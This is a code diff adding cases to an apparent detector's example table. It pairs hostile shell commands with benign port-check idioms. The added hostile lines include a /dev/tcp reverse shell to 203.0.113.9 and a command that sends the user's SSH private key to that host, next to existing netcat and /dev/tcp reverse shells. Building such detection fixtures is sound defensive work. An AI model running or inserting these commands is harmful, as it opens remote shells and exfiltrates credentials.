@@ -692,11 +692,15 @@ EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] = {
             "nc -e /bin/sh 203.0.113.9 4444",
             "exec 5<>/dev/tcp/203.0.113.9/4444\ncat <&5 | while read line; do $line 2>&5 >&5; done",
             "exec 196<>/dev/tcp/203.0.113.9/4444\nsh <&196 >&196 2>&196",
+            "echo ok > /dev/tcp/203.0.113.9/80; sh >& /dev/tcp/203.0.113.9/4444 0>&1",
+            'echo "$(cat ~/.ssh/id_rsa)" > /dev/tcp/203.0.113.9/80',
         ),
         (
             "nc -z localhost 8080",
             "exec 3<>/dev/tcp/127.0.0.1/8082",
             'exec 3<>/dev/tcp/"$server"/"$port" || return 1\nprintf "QUIT\\r\\n" >&3',
+            '(echo > "/dev/tcp/127.0.0.1/${port}") >/dev/null 2>&1',
+            'if timeout 5s bash -c "echo >/dev/tcp/${host}/${port}" 2>/dev/null; then',
         ),
     ),
     "persistence": (
